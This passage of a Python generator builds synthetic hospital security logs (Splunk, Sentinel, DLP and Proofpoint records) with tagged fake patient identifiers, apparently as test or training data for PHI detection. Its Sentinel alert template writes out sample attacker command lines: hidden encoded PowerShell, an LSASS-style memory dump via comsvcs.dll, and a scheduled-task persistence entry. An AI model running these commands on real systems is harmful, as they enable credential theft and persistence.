               "  Discharge: ", Ph(dfmt(p.dis, "us"), "date"), "  Pt is a "] + agefrag(p, "%d y/o") + \
              [" %s admitted with CAP..." % p.sex]
    return out


def doc_file(p, kind=None):
    """A patient-named file name; segments."""
    kind = kind or ch(["roi", "facesheet", "labs", "dc", "referral", "eob", "scan", "stmt"])
    ext = ch([".pdf", ".pdf", ".pdf", ".docx", ".xlsx", ".tif"])
    k = R(0, 5)
    if k == 0:
        return [nm(p, "file"), "_MRN", Ph(p.mrn, "mrn"), "_%s%s" % (kind.upper(), ext)]
    if k == 1:
        return [nm(p, "file"), "_DOB_", Ph(dfmt(p.dob, "mdy8"), "date"), "_%s%s" % (kind, ext)]
    if k == 2:
        return [Ph(p.mrn, "mrn"), "_", nm(p, "file"), "_", Ph(dfmt(p.adm, "compact"), "date"), ext]
    if k == 3:
        return [kind.capitalize(), " - ", nm(p, "spc"), " ", Ph(dfmt(p.dob, "iso"), "date"), ext]
    if k == 4:
        return [nm(p, "fileFL"), "_", kind, "_DOS_", Ph(dfmt(p.adm, "iso"), "date"), ext]
    return [nm(p, "file"), "_", kind, ext]


def subj_phi(p):
    k = R(0, 7)
    if k == 0:
        return ["Referral: ", nm(p, "lf"), " DOB ", Ph(dfmt(p.dob, "us"), "date"), " - cardiology consult"]
    if k == 1:
        return ["Records request - ", nm(p, "FL"), " DOB ", Ph(dfmt(p.dob, "usnz"), "date")]
    if k == 2:
        return ["RE: ", nm(p, "FL"), " (MRN ", Ph(p.mrn, "mrn"), ") discharge paperwork"]
    if k == 3:
        return ["FW: Prior auth needed - ", nm(p, "LF"), " member ", Ph(p.member, "health_plan")]
    if k == 4:
        return ["Appt change for ", nm(p, "FL"), " on ", Ph(dfmt(svc_date(), "us"), "date")]
    if k == 5:
        return ["[SECURE] Lab results ", nm(p, "lf"), " collected ", Ph(dfmt(svc_date(), "iso"), "date")]
    if k == 6:
        return ["Billing question acct ", Ph(p.har, "account"), " - ", nm(p, "FL")]
    return ["Fwd: ", nm(p, "FL"), " - ", Ph(pfmt(p.phone, "dash"), "phone"), " call back re MRI"]


CLEAN_SUBJ = ["Your mailbox storage is almost full", "Invoice 48213 overdue - action required",
              "Q4 Epic downtime schedule", "DocuSign: Please review and sign NDA_Vendor_2024.pdf",
              "Shared file: Staffing_Grid_Nov.xlsx", "RE: CAB change CHG0048213 approval",
              "Weekly Threat Intel Brief - 2024-11-04", "Payroll update required before 11/08/2024",
              "Voicemail from +1 (509) 555-0100 (00:42)", "Your Microsoft 365 password expires in 3 days",
              "FW: Joint Commission survey prep", "Zoom: Tumor board moved to 12:30",
              "ACTION: Confirm your benefits enrollment", "Wire transfer confirmation #TRX-77120",
              "Re: PO 4500921137 delivery window", "Badge photo retake day - Tower B lobby",
              "Fax received from 509-555-0188 (3 pages)", "HHS 405(d) newsletter November 2024",
              "Undeliverable: RE: Holiday coverage", "New sign-in to your account from Chrome on Windows"]
CLEAN_FILES = ["Staffing_Grid_Nov.xlsx", "Invoice_48213.pdf", "Q4_Downtime_Plan_v3.docx", "NDA_Vendor_2024.pdf",
               "scan_20241104_081522.pdf", "Policy_HIM-117_Release_of_Information.pdf", "budget_FY25_draft.xlsx",
               "remittance_835_20241101.txt", "PO_4500921137.pdf", "Tumor_Board_Agenda.docx", "image001.png",
               "ATT00001.htm", "Benefits_Guide_2025.pdf", "invoice_09318.html", "DHL_Shipment_7710293.zip",
               "payment_advice.iso", "Voicemail_00m42s.wav"]


# ---------------------------------------------------------------- templates: Splunk

NOTABLE_CLEAN = [
    ("Endpoint - Suspicious PowerShell Encoded Command - Rule", "endpoint", "high"),
    ("Access - Brute Force Access Behavior Detected - Rule", "access", "medium"),
    ("Network - Outbound Traffic to TOR Exit Node - Rule", "network", "high"),
    ("Threat - Threat Intelligence Match - Rule", "threat", "medium"),
    ("Endpoint - Host With Multiple Infections - Rule", "endpoint", "high"),
    ("Access - Excessive Failed Logins - Rule", "access", "low"),
    ("Identity - Activity from Expired User Identity - Rule", "identity", "medium"),
    ("Network - Unroutable Host Activity - Rule", "network", "low"),
    ("Endpoint - Anomalous New Services - Rule", "endpoint", "medium"),
    ("Audit - Anomalous Audit Trail Activity Detected - Rule", "audit", "critical"),
]


def t_notable(dt, phi):
    ln = L("splunk-es-notable")
    s = staff()
    eid = "%s@@notable@@%s" % (guid().upper(), md5())
    base = [("_time", iso_off(dt)), ]
    if not phi:
        rule = ch(NOTABLE_CLEAN)
        o = O(base + [("search_name", rule[0]), ("rule_id", "ESCU-%04d" % R(1, 900)), ("event_id", eid),
                      ("urgency", rule[2]), ("security_domain", rule[1]),
                      ("src", ch([priv_ip(), atk_ip()])), ("dest", ch([host(), ch(SRV)])), ("user", s.user),
                      ("orig_sourcetype", ch(["XmlWinEventLog", "crowdstrike:events:sensor", "pan:traffic", "cisco:asa", "ms:o365:management"])),
                      ("status_label", ch(["New", "In Progress", "Pending", "Resolved"])),
                      ("owner", ch(["unassigned", analyst().user])), ("risk_score", R(10, 100)), ("count", R(1, 60))])
        ln.j(o)
        return ln
    p = pt()
    k = R(0, 3)
    if k == 0:
        rcpt = Ph(p.email, "email")
        o = O(base + [("search_name", "Data Loss - PHI Sent To Personal Webmail - Rule"), ("rule_id", "SGR-DLP-0031"),
                      ("event_id", eid), ("urgency", "high"), ("security_domain", "email"), ("src_user", s.email),
                      ("recipient", rcpt), ("file_name", S(doc_file(p))), ("file_size", R(40000, 9000000)),
                      ("dlp_incident_id", str(R(440000, 459999))), ("status_label", "New"), ("owner", "unassigned")])
    elif k == 1:
        o = O(base + [("search_name", "Identity - Patient Portal Account Takeover - Rule"), ("rule_id", "SGR-IAM-0107"),
                      ("event_id", eid), ("urgency", "critical"), ("security_domain", "identity"), ("app", "MyChart"),
                      ("user", Ph(p.portal, "other_id")), ("src", atk_ip()), ("src_country", ch(["NL", "RU", "DE", "RO", "SC"])),
                      ("baseline_src", Ph(p.ip, "ip")), ("baseline_country", "US"), ("patient_mrn", Ph(p.mrn, "mrn")),
                      ("failed_before_success", R(3, 80)), ("status_label", "New")])
    elif k == 2:
        o = O(base + [("search_name", "Data Loss - Bulk PHI Export from Clarity - Rule"), ("rule_id", "SGR-DLP-0044"),
                      ("event_id", eid), ("urgency", "high"), ("security_domain", "audit"), ("user", s.user), ("dest", "clarity-db01"),
                      ("row_count", R(1500, 90000)), ("sample_record", S([nm(p, "LF"), "|", Ph(p.mrn, "mrn"), "|", Ph(dfmt(p.dob, "iso"), "date"), "|", Ph(p.ssn, "ssn")])),
                      ("query_hash", md5()), ("status_label", "In Progress"), ("owner", analyst().user)])
    else:
        o = O(base + [("search_name", "Privacy - VIP Record Access - Rule"), ("rule_id", "SGR-PRV-0012"), ("event_id", eid),
                      ("urgency", "medium"), ("security_domain", "audit"), ("user", s.user), ("user_dept", s.dept),
                      ("patient_name", nm(p, "LF")), ("patient_mrn", Ph(p.mrn, "mrn")),
                      ("patient_age", Ph(str(p.age), "age") if p.age > 89 else str(p.age)), ("epic_activity", ch(["Chart Review", "Results Review", "Snapshot", "Notes"])),
                      ("workstation", host()), ("status_label", "New")])
    ln.j(o)
    return ln


SCHED = ["Access - Brute Force Access Behavior Detected - Rule", "Threat - Threat Intelligence Match - Rule",
         "Data Loss - PHI Sent To Personal Webmail - Rule", "Identity - Patient Portal Account Takeover - Rule",
         "Endpoint - Suspicious PowerShell Encoded Command - Rule", "Network - Outbound Traffic to TOR Exit Node - Rule"]


def t_splunk_kv(dt, phi):
    ln = L("splunk-kv")
    ts = dt.strftime("%m-%d-%Y %H:%M:%S") + ".%03d -0500" % R(0, 999)
    if not phi:
        k = R(0, 4)
        if k == 0:
            ss = ch(SCHED)
            st = epoch(dt) - R(1, 30)
            ln.t('%s INFO  SavedSplunker - savedsearch_id="nobody;SplunkEnterpriseSecuritySuite;%s", search_type="scheduled", user="admin", app="SplunkEnterpriseSecuritySuite", savedsearch_name="%s", priority=default, status=success, digest_mode=1, durable_cursor=0, scheduled_time=%d, window_time=0, dispatch_time=%d, run_time=%.3f, result_count=%d, alert_actions="notable", sid="scheduler__admin__U3BsdW5rRW50ZXJwcmlzZVNlY3VyaXR5U3VpdGU__RMD5%s_at_%d_%d", suppressed=0, thread_id="AlertNotifierWorker-0", workload_pool=""'
                 % (ts, ss, ss, st, st + 1, random.uniform(0.3, 40), R(0, 6), hexs(16), st, R(1000, 99999)))
        elif k == 1:
            ln.t('%s correlation_search="Access - Brute Force Access Behavior Detected - Rule" orig_rule_id=ACC-%04d src=%s dest=%s app=%s user=%s failure=%d success=%d unique_users=1 urgency=medium'
                 % (iso_off(dt), R(1, 400), atk_ip(), ch(["owa." + DOM, "citrix-sf01", "adfs01", "vpn." + DOM]), ch(["OWA", "Citrix", "ADFS", "AnyConnect"]),
                    staff().user, R(20, 900), R(0, 1)))
        elif k == 2:
            ln.t('%s tstats_summary=Network_Traffic.All_Traffic src_ip=%s dest_ip=%s dest_port=%d transport=tcp bytes_out=%d bytes_in=%d action=%s rule=%s sourcetype=pan:traffic dvc=pa-dc-fw01'
                 % (iso_off(dt), priv_ip(), atk_ip(), ch([443, 8443, 9001, 4444, 22, 3389]), R(300, 9000000), R(300, 900000),
                    ch(["allowed", "blocked"]), ch(["Outbound-Default", "TOR-Block", "Guest-Internet"])))
        elif k == 3:
            ln.t('%s MyChartAudit host=mychart-prd-web02 event=LOGIN_FAILED reason=BAD_PASSWORD user=<redacted> client_ip=%s ua="python-requests/2.31.0" attempts_last_5m=%d waf_rule=942100 action=challenge'
                 % (iso_off(dt), atk_ip(), R(20, 400)))
        else:
            ln.t('%s risk_object=%s risk_object_type=%s risk_score=%d risk_message="%s" source="%s" threat_object=%s annotations.mitre_attack=%s'
                 % (iso_off(dt), ch([host(), staff().user]), ch(["system", "user"]), R(10, 80),
                    ch(["Encoded PowerShell on host", "User logged in from new ASN", "Excessive file reads from HIM share", "LSASS access by non-system process"]),
                    ch(SCHED), sha256()[:16], ch(["T1059.001", "T1078", "T1003.001", "T1567.002", "T1021.001"])))
        return ln
    p = pt()
    k = R(0, 3)
    if k == 0:
        ln.t("%s MyChartAudit host=mychart-prd-web02 event=LOGIN_SUCCESS wpr=WPR-%d user=\"" % (iso_off(dt), R(1000000, 9999999)))
        ln.p(p.portal, "other_id").t('" pat_mrn=').p(p.mrn, "mrn").t(" client_ip=").p(p.ip, "ip")
        ln.t(' ua="%s" mfa=%s session=%s' % (ch(["Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MyChart/10.4",
                                                 "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
                                                 "MyChart/10.4.1 (Android 14; Pixel 7)"]), ch(["sms", "totp", "none"]), hexs(24)))
    elif k == 1:
        ln.t('%s correlation_search="Identity - Patient Portal Credential Stuffing - Rule" orig_rule_id=SGR-IAM-0104 src=%s app=MyChart user=' % (iso_off(dt), atk_ip()))
        ln.p(p.portal, "other_id").t(" failure=%d success=1 action=locked last_good_ip=" % R(4, 60)).p(p.ip, "ip").t(" urgency=high")
    elif k == 2:
        r = p.rel
        ln.t("%s MyChartAudit host=mychart-prd-web02 event=PROXY_ACCESS_GRANTED proxy_user=" % iso_off(dt))
        ln.p(asc(r[0]).lower() + "." + asc(r[1]).lower() + str(R(60, 99)), "other_id").t(' proxy_name="').s([relname(p)]).t('" relationship=%s patient_mrn=' % r[2])
        ln.p(p.mrn, "mrn").t(' patient_name="').s([nm(p, "lf")]).t('" approved_by=%s' % ch(["jwhitfield", "srao", "HIM_QUEUE"]))
    else:
        ln.t('%s sourcetype=epic:audit EPIC_USER=%s WORKSTATION=%s ACTION="Chart Opened" PAT_MRN=' % (iso_off(dt), staff().user.upper(), host()))
        ln.p(p.mrn, "mrn").t(' PAT_NAME="').s([nm(p, "LFM")]).t('" ENC_DATE=').p(dfmt(p.adm, "us"), "date")
        ln.t(" BTG=%s DEPT_ID=%d" % (ch(["Y", "N", "N"]), R(10100, 10999)))
    return ln


# ---------------------------------------------------------------- templates: Sentinel

MDE_ALERTS = [("Suspicious access to LSASS service", "CredentialAccess", "High"),
              ("Suspicious PowerShell command line", "Execution", "Medium"),
              ("Ransomware behavior detected in the file system", "Impact", "High"),
              ("Possible lateral movement via RDP", "LateralMovement", "Medium"),
              ("Suspicious scheduled task", "Persistence", "Low"),
              ("An active 'Qakbot' malware was detected", "Execution", "High"),
              ("Anomalous token usage", "CredentialAccess", "Medium")]


def t_sentinel_alert(dt, phi):
    ln = L("sentinel-alert")
    s = staff()
    h = host()
    if not phi:
        a = ch(MDE_ALERTS)
        ents = [O([("$id", "2"), ("HostName", h.lower()), ("DnsDomain", AD), ("OSFamily", "Windows"), ("OSVersion", "10.0"), ("Type", "host")]),
                O([("$id", "3"), ("Name", s.user), ("UPNSuffix", DOM), ("Sid", s.sid), ("Type", "account")]),
                O([("$id", "4"), ("ProcessId", str(R(400, 20000))), ("CommandLine", ch(["powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 732 C:\\Windows\\Temp\\d.dmp full", "schtasks /create /tn \"OneDriveSync\" /tr C:\\ProgramData\\od.exe /sc minute /mo 15"])), ("Type", "process")])]
        o = O([("TenantId", "6f1c2d0e-5a7b-4c3d-9e8f-1a2b3c4d5e6f"), ("TimeGenerated", utc7(dt)), ("DisplayName", a[0]), ("AlertName", a[0]),
               ("AlertSeverity", a[2]), ("ProviderName", "MDATP"), ("VendorName", "Microsoft"), ("ProductName", "Microsoft Defender Advanced Threat Protection"),
               ("SystemAlertId", guid()), ("VendorOriginalId", "da" + hexs(16) + "_" + str(R(-2147483648, 2147483647))),
               ("CompromisedEntity", fqdn(h)), ("Tactics", a[1]), ("Status", "New"), ("ConfidenceLevel", ""),
               ("Entities", J(ents)), ("ExtendedProperties", J(O([("MicrosoftDefenderAtp.Category", a[1]), ("Detection Source", "EDR"), ("Incident ID", str(R(30000, 39999)))]))),
               ("Type", "SecurityAlert")])
        ln.j(o)
        return ln
    p = pt()
    fname = doc_file(p)
    k = R(0, 2)
    if k == 0:
        ents = [O([("$id", "2"), ("Name", s.user), ("UPNSuffix", DOM), ("Type", "account")]),
                O([("$id", "3"), ("Directory", "https://stgabriel-my.sharepoint.com/personal/%s_%s/Documents" % (s.user, DOM.replace(".", "_"))),
                   ("Name", S(fname)), ("Type", "file")]),
                O([("$id", "4"), ("Recipient", Ph(p.email, "email")), ("Type", "mailMessage")])]
        desc = S(["Content matching U.S. Social Security Number (SSN) was shared externally by ", s.email, ". Sample: ", Ph(p.ssn, "ssn"), " (", nm(p, "FL"), ")"])
        o = O([("TimeGenerated", utc7(dt)), ("DisplayName", "DLP policy match for document shared externally"), ("AlertSeverity", "High"),
               ("ProviderName", "Microsoft Data Loss Prevention"), ("ProductName", "Microsoft Purview"), ("SystemAlertId", guid()),
               ("CompromisedEntity", s.email), ("Description", desc), ("Entities", J(ents)), ("Status", "New"), ("Type", "SecurityAlert")])
    elif k == 1:
        ents = [O([("$id", "2"), ("HostName", h.lower()), ("Type", "host")]),
                O([("$id", "3"), ("Directory", "E:\\Export\\%s" % ch(["ROI", "tmp", "Scans", "Discharge"])), ("Name", S(fname)), ("FileHashes", [O([("Algorithm", "SHA256"), ("Value", sha256())])]), ("Type", "file")])]
        o = O([("TimeGenerated", utc7(dt)), ("DisplayName", "Sensitive file copied to removable media"), ("AlertSeverity", "Medium"),
               ("ProviderName", "MDATP"), ("SystemAlertId", guid()), ("CompromisedEntity", fqdn(h)),
               ("Description", S(["User %s copied a file labeled 'Confidential - PHI' to USB device (VID_0781&PID_5583). Patient: " % s.user, nm(p, "LF"), ", MRN ", Ph(p.mrn, "mrn")])),
               ("Entities", J(ents)), ("Tactics", "Exfiltration"), ("Status", "New"), ("Type", "SecurityAlert")])
    else:
        ents = [O([("$id", "2"), ("Name", Ph(p.portal, "other_id")), ("Type", "account"), ("IsDomainJoined", False)]),
                O([("$id", "3"), ("Address", atk_ip()), ("Location", O([("CountryCode", ch(["NL", "RO", "VN", "BR"]))])), ("Type", "ip")]),
                O([("$id", "4"), ("Address", Ph(p.ip, "ip")), ("Location", O([("CountryCode", "US")])), ("Type", "ip")])]
        o = O([("TimeGenerated", utc7(dt)), ("DisplayName", "Impossible travel to atypical locations - patient portal"), ("AlertSeverity", "Medium"),
               ("ProviderName", "ASI Scheduled Alerts"), ("SystemAlertId", guid()), ("AlertType", "%s_%s" % (guid(), guid())),
               ("CompromisedEntity", Ph(p.portal, "other_id")), ("Entities", J(ents)), ("Tactics", "InitialAccess"), ("Status", "New"), ("Type", "SecurityAlert")])
    ln.j(o)
    return ln


INC_TITLES = ["Multi-stage incident involving Initial access & Credential access on one endpoint",
              "Suspicious PowerShell command line involving one user",
              "Email messages containing malicious URL removed after delivery",
              "Mass download by a single user (SharePoint)",
              "DLP policy matches on multiple endpoints reported by multiple sources",
              "Ransomware activity on one endpoint", "Password spray against ADFS"]


def t_sentinel_incident(dt, phi):
    ln = L("sentinel-incident")
    a = analyst()
    iid = guid()
    num = inc_no()
    o = O([("TenantId", "6f1c2d0e-5a7b-4c3d-9e8f-1a2b3c4d5e6f"), ("TimeGenerated", utc7(dt)), ("IncidentName", iid),
           ("Title", ch(INC_TITLES)), ("Description", ""), ("Severity", ch(["High", "Medium", "Low", "Informational"])),
           ("Status", ch(["New", "Active", "Closed"])), ("Classification", ch(["", "TruePositive", "BenignPositive", "FalsePositive"])),
           ("ClassificationReason", ch(["", "SuspiciousActivity", "InaccurateData"])),
           ("Owner", O([("objectId", guid()), ("email", a.email), ("assignedTo", "%s %s" % (a.first, a.last)), ("userPrincipalName", a.email)])),
           ("ProviderName", "Azure Sentinel"), ("ProviderIncidentId", str(num)), ("FirstActivityTime", utc3(dt - datetime.timedelta(minutes=R(5, 600)))),
           ("LastActivityTime", utc3(dt - datetime.timedelta(minutes=R(0, 4)))), ("CreatedTime", utc7(dt)), ("IncidentNumber", num),
           ("AlertIds", [guid() for _ in range(R(1, 3))]), ("Labels", []),
           ("IncidentUrl", "https://portal.azure.com/#asset/Microsoft_Azure_Security_Insights/Incident/subscriptions/%s/resourceGroups/rg-soc-prd/providers/Microsoft.OperationalInsights/workspaces/law-soc-prd/providers/Microsoft.SecurityInsights/Incidents/%s" % (guid(), iid)),
           ("Type", "SecurityIncident")])
    ln.j(o)
    return ln


# ---------------------------------------------------------------- templates: O365 DLP (Management Activity API)

SIT = [("U.S. Social Security Number (SSN)", "ssn"), ("U.S. Medical Record Number (custom)", "mrn"),
       ("Credit Card Number", "account"), ("Medicare Beneficiary Identifier", "health_plan"),
       ("U.S. Driver's License Number", "license"), ("All Full Names", "name")]


def sit_value(p, cat):
    if cat == "ssn":
        return p.ssn
    if cat == "mrn":
        return p.mrn
    if cat == "account":
        return card_fmt(p.card)
    if cat == "health_plan":
        return mbi_fmt(p.mbi or mbi())
    if cat == "license":
        return p.dl
    return "%s %s" % (p.first, p.last)


def t_o365_dlp(dt, phi):
    ln = L("o365-dlp")
    s = staff()
    wl = ch(["Exchange", "OneDrive", "SharePoint", "Endpoint"])
    base = [("CreationTime", utc(dt).strftime("%Y-%m-%dT%H:%M:%S")), ("Id", guid()), ("Operation", "DLPRuleMatch"),
            ("OrganizationId", "6f1c2d0e-5a7b-4c3d-9e8f-1a2b3c4d5e6f"), ("RecordType", 13 if wl != "Endpoint" else 63),
            ("UserKey", "1003200%s" % HEX(9)), ("UserType", 0), ("Version", 1), ("Workload", wl),
            ("ObjectId", "<%s@%s.namprd11.prod.outlook.com>" % (HEX(20), ch(["BN0PR11MB", "SJ0PR11MB", "CH3PR11MB"]) + digits(4))),
            ("UserId", s.email), ("IncidentId", guid())]
    if not phi:
        pol = O([("DlpComplianceRuleId", guid()), ("PolicyId", guid()), ("PolicyName", ch(["U.S. HIPAA Enhanced", "PCI DSS", "SGR - Financial Data"])),
                 ("Rules", [O([("Actions", [ch(["NotifyUser", "BlockAccess", "GenerateIncidentReport"])]), ("ConditionsMatched",
                              O([("ConditionMatchedInNewScheme", True), ("OtherConditions", [O([("Name", "ContentContainsSensitiveInformation"), ("Value", "true")])])])),
                              ("ManagementRuleId", guid()), ("RuleId", guid()), ("RuleMode", ch(["Enable", "AuditAndNotify"])), ("RuleName", ch(["Low volume content detected", "High volume content detected"])), ("Severity", ch(["Low", "Medium", "High"]))])])])
        o = O(base + [("PolicyDetails", [pol]), ("SensitiveInfoDetectionIsIncluded", False),
                      ("ExchangeMetaData", O([("BCC", []), ("CC", []), ("FileSize", R(20000, 900000)), ("From", s.email),
                                              ("MessageID", "<%s@%s>" % (HEX(20), "CH3PR11MB%s.namprd11.prod.outlook.com" % digits(4))),
                                              ("RecipientCount", R(1, 6)), ("Sent", utc(dt).strftime("%Y-%m-%dT%H:%M:%S")), ("Subject", ch(CLEAN_SUBJ)),
                                              ("To", [ch(["ap@medline-vendor.example", "claims@payer-portal.example", "noreply@" + DOM, "staffing@" + DOM])])]))])
        ln.j(o)
        return ln
    p = pt()
    sel = random.sample(SIT[:5], R(1, 2))
    sits = []
    for name, cat in sel:
        vals = [O([("Name", name), ("Value", Ph(sit_value(p, cat), cat))])]
        if R(0, 2) == 0:
            vals.append(O([("Name", "All Full Names"), ("Value", nm(p, "FL"))]))
        sits.append(O([("ClassifierType", "Content"), ("Confidence", ch([75, 85, 85])), ("Count", len(vals)), ("Location", None),
                       ("SensitiveInformationDetections", O([("DetectedValues", vals), ("ResultsTruncated", False)])),
                       ("SensitiveInformationTypeName", name), ("SensitiveType", guid())]))
    pol = O([("DlpComplianceRuleId", guid()), ("PolicyId", guid()), ("PolicyName", "U.S. HIPAA Enhanced"),
             ("Rules", [O([("Actions", ["BlockAccess", "GenerateIncidentReport"]),
                           ("ConditionsMatched", O([("ConditionMatchedInNewScheme", True), ("SensitiveInformation", sits)])),
                           ("RuleId", guid()), ("RuleMode", "Enable"), ("RuleName", "High volume PHI content"), ("Severity", "High")])])])
    meta = O([("From", s.email), ("To", [Ph(p.email, "email") if R(0, 1) else ch(["records@quickfax-relay.example", s.personal])]),
              ("Subject", S(subj_phi(p))), ("Sent", utc(dt).strftime("%Y-%m-%dT%H:%M:%S"))])
    o = O(base + [("PolicyDetails", [pol]), ("SensitiveInfoDetectionIsIncluded", True), ("ExchangeMetaData", meta)])
    ln.j(o)
    return ln


# ---------------------------------------------------------------- templates: Symantec DLP syslog

def sym_hdr(dt):
    return "%s %02d %d %s dlp-enf01.%s SymantecDLP: " % (MONTHS[dt.month - 1], dt.day, dt.year, dt.strftime("%H:%M:%S"), AD)


def t_symantec(dt, phi):
    ln = L("symantec-dlp")
    s = staff()
    iid = R(448000, 452999)
    ln.t(sym_hdr(dt))
    if not phi:
        k = R(0, 3)
        if k == 0:
            ln.t("INCIDENT_ID=%d|POLICY=PCI - Card Numbers|RULES=Luhn + keyword|SEVERITY=Low|STATUS=Dismissed|PROTOCOL=SMTP|SENDER=%s|RECIPIENTS=ap@medline-vendor.example|SUBJECT=%s|MATCH_COUNT=1|BLOCKED=Passed|MATCHED_CONTENT=\"...Cisco part no. %s-%s qty 4...\"|NOTE=false positive, vendor SKU"
                 % (iid, s.email, ch(CLEAN_SUBJ), digits(3), digits(6)))
        elif k == 1:
            ln.t("INCIDENT_ID=%d|STATUS_CHANGE=%s->%s|CHANGED_BY=%s|SEVERITY=%s|REMEDIATION=%s|COMMENT=%s"
                 % (iid, ch(["New", "Escalated"]), ch(["Escalated", "Resolved", "Dismissed"]), analyst().email, ch(["High", "Medium"]),
                    ch(["Notify manager", "Privacy review", "None"]), ch(["Routed to Privacy Office (S. Rao)", "Dup of %d" % (iid - R(1, 40)), "User coached; ticket INC%07d" % R(40000, 99999)])))
        elif k == 2:
            ln.t("INCIDENT_ID=%d|POLICY=HIPAA - Patient Identifiers|RULES=MRN Pattern|SEVERITY=Medium|STATUS=New|PROTOCOL=Endpoint/USB|ENDPOINT_MACHINE=%s|ENDPOINT_USER=%s\\%s|FILE=%s|MATCH_COUNT=%d|BLOCKED=Blocked|MATCHED_CONTENT=<not stored: policy SGR-DLP-RET-02>"
                 % (iid, host(), "SGRMC", s.user, "E:\\" + ch(CLEAN_FILES), R(1, 400)))
        else:
            ln.t("INCIDENT_ID=%d|POLICY=HIPAA - SSN|RULES=SSN w/ keywords|SEVERITY=Info|STATUS=Dismissed|PROTOCOL=HTTP|URL=https://www.irs.gov/pub/irs-pdf/fw9.pdf|MATCH_COUNT=1|MATCHED_CONTENT=\"...Social security number ***-**-**** ...\"|NOTE=blank form template"
                 % iid)
        return ln
    p = pt()
    proto = ch(["SMTP", "SMTP", "Endpoint/USB", "HTTP/S", "Endpoint/Print"])
    ln.t("INCIDENT_ID=%d|POLICY=%s|RULES=%s|SEVERITY=High|STATUS=New|PROTOCOL=%s|" % (
        iid, ch(["HIPAA - Patient Identifiers", "HIPAA - PHI (SSN + Name)", "HIPAA - Medicare/Medicaid IDs"]),
        ch(["SSN w/ keywords; MRN Pattern", "Name + DOB proximity", "EDM: Epic Patient Index"]), proto))
    if proto == "SMTP":
        ln.t("SENDER=%s|RECIPIENTS=" % s.email)
        if R(0, 1):
            ln.p(p.email, "email")
        else:
            ln.t(ch([s.personal, "referrals@northwest-cardio.example", "intake@valley-snf.example"]))
        ln.t("|SUBJECT=").s(subj_phi(p)).t("|ATTACHMENT_FILE_NAME=").s(doc_file(p))
    elif proto.startswith("Endpoint"):
        ln.t("ENDPOINT_MACHINE=%s|ENDPOINT_USER=SGRMC\\%s|FILE=E:\\ROI\\" % (host(), s.user)).s(doc_file(p))
    else:
        ln.t("URL=https://%s/upload|ENDPOINT_USER=SGRMC\\%s" % (ch(["www.dropbox.com", "drive.google.com", "wetransfer.com", "mega.nz"]), s.user))
    ln.t("|MATCH_COUNT=%d|BLOCKED=%s|MATCHED_CONTENT=\"" % (R(2, 40), ch(["Blocked", "Passed", "Quarantined"])))
    ln.s(snippet(p), kvq)
    ln.t('"')
    return ln


def t_dlp_report(dt, phi):
    """Human-readable DLP incident report export (one line per incident)."""
    ln = L("dlp-incident-report")
    s = staff()
    num = "DLP-%s-%04d" % (dt.strftime("%Y%m%d"), R(1, 200))
    ln.t("%s | Detected: %s | Channel: %s | User: %s %s (%s) | Device: %s | " % (
        num, dt.strftime("%Y-%m-%d %H:%M"), ch(["Endpoint/USB", "Email", "Cloud Upload", "Print", "Clipboard"]),
        s.first, s.last, s.user, host()))
    if not phi:
        ln.t("File: %s | Rule: %s | Snippet: \"%s\" | Disposition: %s" % (
            ch(CLEAN_FILES), ch(["PCI-CC-01", "HIPAA-SSN-03", "HIPAA-MRN-02"]),
            ch(["...Employee ID 0048213, Dept 4410, cost center 7731...", "...Helpdesk: 509-555-0100, Privacy Office 509-555-0111, 1200 W Fifth Ave, Spokane...",
                "...Lot 24-118273 exp 2026-03-31 NDC 0409-4888-02...", "...Test patient ZZTEST, MRN 99999999 (training env)...",
                "...Ref: CHG0048213 window 11/09/2024 02:00-04:00..."]),
            ch(["False positive", "Benign - closed", "No PHI - closed"])))
        return ln
    p = pt()
    style = ch(["palm", "idcard", None, None, None])
    rule = "HIPAA-BIO-01" if style else ch(["HIPAA-SSN-03", "HIPAA-MRN-02", "HIPAA-EDM-01"])
    ln.t("File: ").s(doc_file(p)).t(" | Rule: %s | Snippet: \"" % rule)
    ln.s(snippet(p, style))
    ln.t('" | Disposition: %s' % ch(["Escalated to Privacy", "Blocked", "User justified - review", "Pending"]))
    return ln


# ---------------------------------------------------------------- templates: Proofpoint PPS

def pps_pre(dt, h=None):
    return "%s %s filter_instance1[%d]: rprt " % (syslog_ts(dt), h or ch(["pps-mx01", "pps-mx02"]), R(20000, 39999))


def pps_sid():
    return "".join(ch("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(10))


def t_pps_group(dt, phi):
    """A short Proofpoint message trace: session/data/msg/attachment lines sharing s=."""
    sid = pps_sid()
    h = ch(["pps-mx01", "pps-mx02"])
    pid = R(20000, 39999)
    out = []
    p = pt() if phi else None
    s = staff()
    inbound = R(0, 1) == 0
    step = [dt]

    def pre():
        step[0] = step[0] + datetime.timedelta(seconds=R(0, 1))
        return "%s %s filter_instance1[%d]: rprt s=%s " % (syslog_ts(step[0]), h, pid, sid)

    mode = R(0, 2) if phi else 9
    # connect
    ln = L("proofpoint-pps")
    ext_ip = atk_ip() if not phi else ch(["209.85.220.%d" % R(40, 90), "40.107.%d.%d" % (R(1, 250), R(1, 250)), "17.58.%d.%d" % (R(1, 60), R(1, 250))])
    if inbound:
        ln.t(pre() + "mod=session cmd=connect ip=%s country=%s lip=10.12.0.%d prot=smtp:smtp hops_active=f routes=%s notroutes=%s perlwait=0.00%d"
             % (ext_ip, ch(["us", "us", "nl", "de"]), R(10, 20), ch(["default_inbound", "allow_relay"]), ch(["firewallsafe", "internalnet,allow_relay"]), R(1, 9)))
    else:
        ln.t(pre() + "mod=session cmd=connect ip=10.12.0.%d country=** lip=10.12.0.%d prot=smtp:smtp hops_active=f routes=allow_relay,internalnet notroutes= perlwait=0.00%d"
             % (R(30, 60), R(10, 20), R(1, 9)))
    out.append(ln)
    # from
    ln = L("proofpoint-pps")
    ln.t(pre() + "m=1 x=%s-1 mod=session cmd=data from=" % sid)
    if phi and inbound and mode == 0:
        ln.p(p.email, "email")
    elif inbound:
        ln.t(ch(["noreply@docusign.net", "billing@medline-vendor.example", "alerts@threatintel-feed.example", "no-reply@%s" % ch(["microsoftonline.com", "zoom.us", "accounts.google.com"]), "postmaster@mail-relay-%d.example" % R(1, 40)]))
    else:
        ln.t(s.email)
